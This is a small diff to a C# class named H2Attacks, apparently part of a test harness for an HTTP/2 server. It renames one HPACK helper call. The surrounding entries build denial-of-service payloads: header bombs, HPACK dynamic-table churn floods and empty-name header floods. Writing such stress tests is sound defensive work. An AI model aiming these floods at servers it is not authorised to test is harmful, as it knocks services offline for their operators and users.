@@ -62,7 +62,7 @@ static class H2Attacks
             await client.SendAsync(H2Frame.Headers(1, bomb));
         },
         ["a table that is emptied and filled"] = (client, count) => client.FloodAsync(
-            count / 20, i => H2Frame.Headers(2 * i + 1, [0x20, .. H2Headers.Integer(4096, 5, 0x20), .. H2Headers.Get("/nowhere"), .. H2Headers.Literal($"x{i}", new string('y', 100), 0x40)]).ToBytes()),
+            count / 20, i => H2Frame.Headers(2 * i + 1, [0x20, .. H2Headers.Prefixed(4096, 5, 0x20), .. H2Headers.Get("/nowhere"), .. H2Headers.Literal($"x{i}", new string('y', 100), 0x40)]).ToBytes()),
         ["headers without names"] = (client, count) => client.FloodAsync(count / 20, i => H2Frame.Headers(2 * i + 1, H2Headers.Get("/api", [.. Enumerable.Repeat(("", ""), 200)])).ToBytes()),
     };
 
